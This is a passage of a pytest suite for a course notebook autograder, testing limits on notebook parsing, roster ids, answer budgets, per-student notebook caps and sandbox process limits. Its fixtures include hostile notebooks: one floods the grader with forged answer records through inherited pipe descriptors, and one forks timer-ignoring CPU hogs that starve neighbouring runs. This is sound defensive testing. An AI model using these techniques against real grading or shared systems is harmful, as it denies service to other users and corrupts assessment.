    assert identify(str(tmp_path / "full_1001_5_hw1.ipynb"), tmp_path, roster)[0] == "full"  # flat Canvas names


def test_outputs_and_metadata_cost_the_grader_nothing(tmp_path, monkeypatch):
    """nbformat converts and validates every output and metadata node, in the grader, outside any limit: 100 000
    stream outputs and 200 000 metadata entries took ~15 s; only cells' sources and the exercise list are kept.

    Checked by what nbformat is handed (a wall-clock bound failed on a loaded 2-core machine: 3.9 s), not by time."""
    import nbformat

    from klcourse.instructor.grading import _read_notebook

    seen = []
    real_from_dict, real_validate = nbformat.from_dict, nbformat.validate

    def spy_from_dict(data):
        seen.append(("from_dict", len(json.dumps(data))))
        return real_from_dict(data)

    def spy_validate(nb, *args, **kwargs):
        seen.append(("validate", len(json.dumps(nb))))
        return real_validate(nb, *args, **kwargs)

    monkeypatch.setattr(nbformat, "from_dict", spy_from_dict)
    monkeypatch.setattr(nbformat, "validate", spy_validate)

    cell = {"cell_type": "code", "id": "a", "metadata": {}, "source": 'check("definitions.excess-bits", 1.0)',
            "execution_count": None,
            "outputs": [{"output_type": "stream", "name": "stdout", "text": "x"} for _ in range(100_000)]}
    raw = {"cells": [cell], "nbformat": 4, "nbformat_minor": 5,
           "metadata": {"klcourse": {"exercises": ["definitions.excess-bits"]},
                        "padding": [[i, {"a": str(i)}] for i in range(200_000)]}}
    path = tmp_path / "padded.ipynb"
    path.write_text(json.dumps(raw))
    nb, error = _read_notebook(str(path))
    assert error is None
    # nbformat saw the slim notebook only: no outputs, no padding (the raw file is ~9 MB)
    assert {name for name, _ in seen} == {"from_dict", "validate"}, seen
    assert max(size for _, size in seen) < 1_000, seen
    assert nb["metadata"]["klcourse"]["exercises"] == ["definitions.excess-bits"]
    assert nb["cells"][0]["outputs"] == [] and "check(" in "".join(nb["cells"][0]["source"])


def test_a_huge_cell_costs_the_grader_little(tmp_path, monkeypatch):
    """The grader looks for check cells without parsing the code (that is the sandbox's work, under its limit)."""
    from klcourse.instructor import grading

    path = tmp_path / "huge-cell.ipynb"
    nbformat.write(notebook("x = 1\n" * 300_000 + 'check("definitions.excess-bits", x)'), path)
    monkeypatch.setattr(grading.sandbox, "run", lambda argv, **kwargs: sandbox.RunResult(
        0, False, {"stdout": b'{"kind": "done"}\n', "stderr": b""}))
    start = time.monotonic()
    outcome = grading.run_file(str(path), "someone", {}, cell_timeout=2.0, limit=5.0, use_sandbox=False)
    assert time.monotonic() - start < 2.0
    assert outcome.check_ids == ["definitions.excess-bits"]


def test_roster_ids_that_differ_only_in_case_are_refused(tmp_path):
    """identify() matches ids ignoring case, so 'Ann' and 'ann' would receive each other's notebooks."""
    from klcourse.instructor.assign import read_roster

    roster = tmp_path / "roster.csv"
    roster.write_text("id,name\nAnn,Ann One\nann,Ann Two\n")
    with pytest.raises(ValueError, match="twice"):
        read_roster(roster)


# ------------------------------------------------------------------------------------------ attacks on the run itself
#: two exercises without per-student data or function cases: a manifest needs no roster, secret or book
SMALL = {"title": "HW", "exercises": [{"id": "definitions.predict-symmetry", "points": 1},
                                      {"id": "definitions.excess-bits", "points": 2}]}
SMALL_HONEST = answer_cells({"definitions.predict-symmetry": 'answer = "equal"',
                             "definitions.excess-bits": f"answer = {EXCESS!r}"})


def test_a_channel_flood_of_other_records_is_not_kept_by_the_grader(tmp_path):
    """Every parsed record used to be kept until the run ended: 16 MB of '[],' in one line are ~5.6 M lists
    (~400 MB) in the grader, per file. Lines over 1 MB are dropped unparsed; only answers to assigned exercises
    are kept, the last of each, within a byte budget; the honest notebook in the same run is graded as usual."""
    from klcourse.instructor import datacodec, grading

    flood = notebook(
        """
        import json, os
        def record(exercise, n):
            return b'{"kind": "answer", "id": "' + exercise.encode() + b'", "data": [' + b'[],' * n + b'[]]}\\n'
        lines = [record("not-an-exercise", 3 * 2**20 // 3)]  # 3 MB: over the line cap
        lines += [record(f"other-{i}", 600_000 // 3) for i in range(10)]  # 600 kB each, not assigned
        lines += [record("definitions.excess-bits", 900_000 // 3) for _ in range(5)]  # assigned, repeated
        for fd in range(3, 64):
            try:
                if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                    for line in lines:
                        os.write(fd, line)
            except OSError:
                pass
        """, *answer_cells({"definitions.predict-symmetry": 'answer = "equal"'}))
    subs = tmp_path / "subs"
    for name, nb in {"evil/a.ipynb": flood, "honest/hw.ipynb": notebook(*SMALL_HONEST)}.items():
        (subs / name).parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, subs / name)
    run = grade([subs], tmp_path / "out" / "grades.csv", assignment=SMALL, timeout=CELL, limit=LIMIT, jobs=1,
                progress=False)
    evil = next(o for o in run.files if o.student == "evil")
    assert set(evil.answers) <= {"definitions.predict-symmetry", "definitions.excess-bits"}, list(evil.answers)[:5]
    kept = sum(len(r) if isinstance(r, bytes) else len(json.dumps(r)) for r in evil.answers.values())
    assert kept <= datacodec.MAX_RECORD_BYTES + 1000 and kept <= grading.MAX_ANSWER_BYTES
    assert any("longer than 1 MB" in e for e in evil.events), evil.events
    assert points_of(run) == {"evil": 1, "honest": 3}


def test_only_answers_to_assigned_exercises_are_kept_within_a_budget(tmp_path, monkeypatch):
    """What run_file keeps of a channel: the last answer to each assigned exercise, not every record read."""
    from klcourse.instructor import datacodec, grading

    path = tmp_path / "flood.ipynb"
    nbformat.write(notebook('check("definitions.excess-bits", 1.0)'), path)

    def answer(exercise, text):
        return (json.dumps({"kind": "answer", "id": exercise, "data": {"t": "str", "v": text}}) + "\n").encode()

    channel = answer("definitions.excess-bits", "first")
    channel += b"".join(answer(f"other-{i}", "x" * 3000) for i in range(4000))  # 12 MB of records for no exercise
    channel += answer("definitions.excess-bits", "y" * 500_000) * 3  # the last one counts, once
    channel += b'{"kind": "event", "text": "nested", "x": ' + b"[" * 300_000 + b"]" * 300_000 + b"}\n"
    channel += answer("definitions.predict-symmetry", "equal") + b'{"kind": "done"}\n'
    assert len(channel) < sandbox.MAX_CHANNEL
    monkeypatch.setattr(grading.sandbox, "run", lambda argv, **kwargs: sandbox.RunResult(
        0, False, {"stdout": channel, "stderr": b""}))
    outcome = grading.run_file(str(path), "someone", {}, cell_timeout=2.0, limit=5.0, use_sandbox=False,
                               exercises=["definitions.excess-bits", "definitions.predict-symmetry"])
    assert sorted(outcome.answers) == ["definitions.excess-bits", "definitions.predict-symmetry"]
    kept = sum(len(r) for r in outcome.answers.values())
    assert 500_000 < kept < datacodec.MAX_RECORD_BYTES
    assert grading._record(outcome.answers["definitions.excess-bits"])["data"]["v"] == "y" * 500_000
    assert outcome.finished and any("JSON lists and objects" in e for e in outcome.events), outcome.events


def test_one_student_cannot_hand_in_a_hundred_notebooks(tmp_path, monkeypatch):
    """Every notebook gets its own wall-clock limit: 100 files from one student were 100 limits (630 s each by
    default, ~17.5 h). Only .ipynb files are run, at most MAX_NOTEBOOKS per student; the rest are noted."""
    from klcourse.instructor import grading

    subs = tmp_path / "subs"
    (subs / "many").mkdir(parents=True)
    (subs / "honest").mkdir()
    for i in range(12):
        nbformat.write(notebook(*SMALL_HONEST), subs / "many" / f"copy{i:02d}.ipynb")
    (subs / "many" / "script.py").write_text("print('hello')\n")
    nbformat.write(notebook(*SMALL_HONEST), subs / "honest" / "hw.ipynb")
    ran = []

    def fake_run_file(path, student, jobs, **kwargs):
        ran.append(path)
        return grading.FileOutcome(path, student, finished=True)

    monkeypatch.setattr(grading, "run_file", fake_run_file)
    run = grade([subs], tmp_path / "out" / "grades.csv", assignment=SMALL, timeout=CELL, limit=LIMIT,
                progress=False)
    names = sorted(Path(p).name for p in ran if Path(p).parent.name == "many")
    assert names == [f"copy{i:02d}.ipynb" for i in range(grading.MAX_NOTEBOOKS)]
    assert [Path(p).parent.name for p in ran].count("honest") == 1
    summary = {r["student"]: r["notes"] for r in _rows(tmp_path / "out" / "grades_summary.csv")}
    assert f"copy{grading.MAX_NOTEBOOKS:02d}.ipynb: not graded: at most {grading.MAX_NOTEBOOKS}" in summary["many"]
    assert "script.py: not graded: only Jupyter notebooks (.ipynb)" in summary["many"]
    assert "not graded" not in summary["honest"]
    page = (tmp_path / "out" / "grades_feedback" / "many.html").read_text()
    assert "at most" in page and "notebooks per student" in page
    assert len(run.files) == grading.MAX_NOTEBOOKS + 1


def test_a_cpu_hog_next_to_an_honest_notebook_does_not_cost_it_marks(tmp_path):
    """With --jobs 2, a notebook whose busy children each call setsid() (one scheduler group each) starved its
    neighbour, whose cells then timed out (8/8 alone, 6/8 next to the hog). A file that hits a time limit while
    others run is graded again alone, and that run counts."""
    hog = notebook(
        """
        import os, signal, time
        signal.signal(signal.SIGALRM, signal.SIG_IGN)  # the per-cell timer no longer ends this cell
        end = time.monotonic() + 8
        for _ in range(14):  # 16 processes per sandbox
            try:
                if os.fork() == 0:
                    os.setsid()
                    while time.monotonic() < end:
                        pass
                    os._exit(0)
            except OSError:
                break
        while True:
            try:
                os.wait()
            except ChildProcessError:
                break
        """)
    busy = "t = time.process_time()\nwhile time.process_time() - t < 0.6:\n    pass\n"  # 0.6 s of CPU, 3 s allowed
    honest = notebook("import time\ntime.sleep(1.5)",  # the hog's children are running by now
                      *answer_cells({"definitions.predict-symmetry": busy + 'answer = "equal"',
                                     "definitions.excess-bits": busy + f"answer = {EXCESS!r}"}))
    subs = tmp_path / "subs"
    for name, nb in {"a-hog/hw.ipynb": hog, "honest/hw.ipynb": honest}.items():
        (subs / name).parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, subs / name)
    run = grade([subs], tmp_path / "out" / "grades.csv", assignment=SMALL, timeout=3.0, limit=10.0, jobs=2,
                progress=False)
    assert points_of(run)["honest"] == 3, [r.message for s in run.students for r in s.rows]
    mine = next(o for o in run.files if o.student == "honest")
    assert not mine.timed_out


def test_a_long_string_answer_is_not_echoed_whole(tmp_path, monkeypatch):
    """A choice checker quotes an answer that is not an option; a string answer may be 10 000 characters long,
    and the gradebook, the summary and the feedback page carried all of it."""
    from klcourse.instructor import grading

    long = "spam " * 2000  # 10 000 characters, the most the data codec allows

    def fake_run_file(path, student, jobs, **kwargs):
        answers = {e: {"kind": "answer", "id": e, "data": {"t": "str", "v": long}} for e in POINTS}
        return grading.FileOutcome(path, student, answers=answers, finished=True)

    monkeypatch.setattr(grading, "run_file", fake_run_file)
    (tmp_path / "subs" / "talker").mkdir(parents=True)
    nbformat.write(notebook(*SMALL_HONEST), tmp_path / "subs" / "talker" / "hw.ipynb")
    run = grade([tmp_path / "subs"], tmp_path / "out" / "grades.csv", assignment=SMALL, progress=False)
    rows = {r.exercise: r for r in run.students[0].rows}
    for row in rows.values():
        assert not row.passed and "spam spam" in row.message, row.message  # the start is still quoted...
        assert len(row.message) < 600, len(row.message)  # ...not all of it
    files = [tmp_path / "out" / name for name in ("grades.csv", "grades_summary.csv")]
    files.append(tmp_path / "out" / "grades_feedback" / "talker.html")
    for path in files:
        assert long[:1000] not in path.read_text()


def test_the_limits_tables_state_the_limits_the_grader_applies():
    """The memory limit is per process: the tables state the per-sandbox bound (processes × address space)."""
    from klcourse.instructor import grading

    limits = sandbox.Limits()
    page = json.loads((ROOT / "book" / "instructors.ipynb").read_text())
    texts = {"README": (ROOT / "README.md").read_text(),
             "instructors": "".join("".join(c["source"]) for c in page["cells"])}
    for name, text in texts.items():
        assert f"at most {limits.processes}" in text, name
        assert f"{limits.memory // 2**30} GB of address space per process" in text, name
        assert f"{limits.processes * limits.memory // 2**30} GB" in text, name
        assert f"{grading.MAX_NOTEBOOKS}" in text and "`.ipynb`" in text, name


def test_the_process_limit_is_set_inside_the_sandbox():
    """RLIMIT_NPROC set on bwrap counts every process of the grader's uid (an instructor with 70 processes
    could start no sandbox; one sandbox's children counted against its neighbour's): it is set inside the
    sandbox, where the kernel counts the sandbox's own processes, at Limits.processes (16)."""
    import sys

    code = "import resource; print(*resource.getrlimit(resource.RLIMIT_NPROC))"
    result = sandbox.run([sys.executable, "-c", code], limits=sandbox.Limits(wall=20))
    if not sandbox.bwrap_available():
        assert not result.sandboxed
        return
    assert result.channels["stdout"].split() == [b"16", b"16"], result.channels
    assert sandbox.Limits().processes == 16


def test_runs_again_alone_stay_within_the_sum_of_the_limits(tmp_path, monkeypatch):
    """Every file timing out in a parallel run: the lone runs stop when the run would outlast grading the
    files one by one (N × the limit) by more than one limit."""
    from klcourse.instructor import grading

    calls = []

    def fake_run_file(path, student, jobs, *, limit, **kwargs):
        calls.append(path)
        time.sleep(limit)
        return grading.FileOutcome(path, student, timed_out=True, events=["timeout: stopped"])

    monkeypatch.setattr(grading, "run_file", fake_run_file)
    subs = tmp_path / "subs"
    for i in range(4):
        (subs / f"s{i}").mkdir(parents=True)
        nbformat.write(notebook(*SMALL_HONEST), subs / f"s{i}" / "hw.ipynb")
    start = time.monotonic()
    run = grade([subs], tmp_path / "out" / "grades.csv", assignment=SMALL, limit=0.5, jobs=2, progress=False,
                write=False)
    elapsed = time.monotonic() - start
    assert 4 < len(calls) < 8, calls  # some files were graded again alone, not all of them
    assert elapsed < (4 + 1) * 0.5 + 1.0
    events = [o.events[0] for o in run.files]
    assert sum(e.startswith("graded again alone") for e in events) == len(calls) - 4
    assert sum("time budget" in e for e in events) == 8 - len(calls)
